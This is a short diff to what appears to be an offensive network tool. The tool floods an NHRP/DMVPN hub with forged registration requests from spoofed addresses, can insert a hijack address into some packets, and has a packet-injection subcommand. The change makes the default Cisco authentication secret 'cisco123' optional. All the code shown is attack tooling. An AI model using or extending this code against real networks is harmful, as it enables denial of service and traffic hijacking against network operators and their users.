@@ -779,7 +779,8 @@ def flood(a):
             src = str(ipaddress.IPv4Address(n0 + i))
             proto = a.hijack if a.hijack and i % 10 == 9 else str(ipaddress.IPv4Address(p0 + i))
         pkt = nhrp(REG_REQ, src, proto, a.hub_proto, flags=0x8002, reqid=i + 1,
-                   cies=[cie(hold=a.holdtime)], exts=cisco_exts(a.secret.encode()))
+                   cies=[cie(hold=a.holdtime)],
+                   exts=cisco_exts(a.secret.encode() if a.secret else None))
         tx.send(a.hub_nbma, gre(pkt), src=src)
         sent += 1
         if sent % batch == 0:
@@ -1016,7 +1017,8 @@ def main():
     f.add_argument("--count", type=int, default=5000)
     f.add_argument("--rate", type=int, default=2000)
     f.add_argument("--holdtime", type=int, default=600)
-    f.add_argument("--secret", default="cisco123")
+    f.add_argument("--secret", default="cisco123",
+                   help='"" for no authentication extension')
     f.add_argument("--hijack")
     i = sub.add_parser("inject")
     i.add_argument("kinds", nargs="+", metavar="KIND[/raw|/gre]")
